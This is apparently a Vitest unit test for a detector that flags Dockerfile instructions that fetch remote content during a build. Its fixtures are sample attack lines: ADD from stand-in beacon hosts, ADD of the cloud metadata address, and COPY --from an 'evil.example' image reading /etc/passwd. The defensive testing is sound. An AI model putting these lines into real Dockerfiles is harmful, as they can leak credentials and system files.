// What a bundle's Dockerfile would make the engine fetch while building at exec (issue 27,
// finding 9): refused before any build.
import { describe, expect, it } from 'vitest';
import { dockerfileFetches } from '../../../src/dockerfile/fetches.js';

const D = `sha256:${'a'.repeat(64)}`;

describe('dockerfileFetches', () => {
  it.each([
    ['ADD https://beacon.example/x /x', 'https://beacon.example/x'],
    ['ADD http://169.254.169.254/latest/meta-data/ /meta', 'http://169.254.169.254/latest/meta-data/'],
    ['ADD --checksum=sha256:00 https://x.example/a.tgz /a', 'https://x.example/a.tgz'],
    ['ADD git@github.com:acme/secret.git /src', 'git@github.com:acme/secret.git'],
    ['ADD https://github.com/acme/repo.git#main /src', 'https://github.com/acme/repo.git#main'],
    ['ADD ["https://beacon.example/y", "/y"]', '["https://beacon.example/y",'],
    ['COPY --from=evil.example/img:latest /etc/passwd /p', 'evil.example/img:latest'],
  ])('attack: %s is refused', (line, source) => {
    expect(dockerfileFetches(`FROM python:3.11@${D}\n${line}\n`)).toEqual([expect.objectContaining({ line: 2, source })]);
  });

  it('repro\'s own shape, local ADD and COPY, and --from an earlier stage fetch nothing', () => {
    const text = `FROM python:3.11@${D} AS build\nCOPY . /project\nADD data.tar /data\nFROM python:3.11@${D}\nCOPY --from=build /project /project\nCOPY --from=0 /x /x\n`;
    expect(dockerfileFetches(text)).toEqual([]);
  });
});
